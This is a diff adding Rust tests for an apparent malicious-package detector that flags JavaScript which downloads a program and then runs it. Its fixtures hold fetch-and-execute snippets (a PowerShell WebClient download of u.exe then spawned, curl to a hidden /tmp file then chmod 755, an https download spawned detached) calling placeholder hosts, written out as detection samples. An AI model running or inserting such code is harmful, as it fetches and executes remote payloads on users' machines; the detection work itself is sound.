@@ -719,3 +719,80 @@ fn preloads_written_into_the_users_npmrc_are_persistence() {
         facts(quiet)
     );
 }
+
+#[test]
+fn download_by_one_command_run_by_another() {
+    // PowerShell fetches a program; a second call starts it.
+    let two_commands = r#"
+        const cp = require('node:child_process');
+        cp.execSync(`powershell -NoProfile -Command "(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/u.exe', 'u.exe')"`);
+        cp.spawn('u.exe', [], { stdio: 'ignore' });
+    "#;
+    assert!(
+        kinds(two_commands).contains(&K::DownloadExecute),
+        "{:?}",
+        facts(two_commands)
+    );
+    // curl saves a file; node makes it executable, in a function the module calls.
+    let chmod = r"
+        const { execSync } = require('child_process');
+        const fs = require('fs');
+        function fetchTool() {
+          execSync('curl -sSo /tmp/.cache-tool http://198.51.100.7/t');
+          fs.chmodSync('/tmp/.cache-tool', 0o755);
+        }
+        fetchTool();
+    ";
+    assert!(
+        kinds(chmod).contains(&K::DownloadExecute),
+        "{:?}",
+        facts(chmod)
+    );
+    // Downloading an archive and unpacking it runs nothing that was downloaded.
+    let unpack = r"
+        const { execSync } = require('child_process');
+        execSync('curl -sSLo node.tar.gz https://example.invalid/node.tar.gz');
+        execSync('tar -xzf node.tar.gz -C vendor');
+    ";
+    assert!(
+        !kinds(unpack).contains(&K::DownloadExecute),
+        "{:?}",
+        facts(unpack)
+    );
+    // A download that nothing runs is only a download.
+    let only = r"
+        require('child_process').execSync('curl -o data.json https://example.invalid/data.json');
+        console.log(require('fs').readFileSync('data.json', 'utf8'));
+    ";
+    assert!(
+        !kinds(only).contains(&K::DownloadExecute),
+        "{:?}",
+        facts(only)
+    );
+}
+
+#[test]
+fn flows_found_when_a_function_ends_belong_to_it() {
+    // The write-then-run flow is judged when the function's region closes; it is the
+    // function's, so a package that calls the function at import runs it then.
+    let src = r"
+        const https = require('https');
+        const fs = require('fs');
+        const { spawn } = require('child_process');
+        function update() {
+          https.get('https://example.invalid/agent', (res) => {
+            res.pipe(fs.createWriteStream('/tmp/agent'));
+            spawn('/tmp/agent', [], { detached: true });
+          });
+        }
+        update();
+    ";
+    let analysed = javascript::analyze(src, "index.js");
+    let flow = analysed
+        .behaviours
+        .iter()
+        .find(|b| b.kind == K::DownloadExecute)
+        .expect("download-execute");
+    assert!(!flow.top_level);
+    assert_ne!(flow.function, customs_analyze::reach::TOP, "{flow:?}");
+}
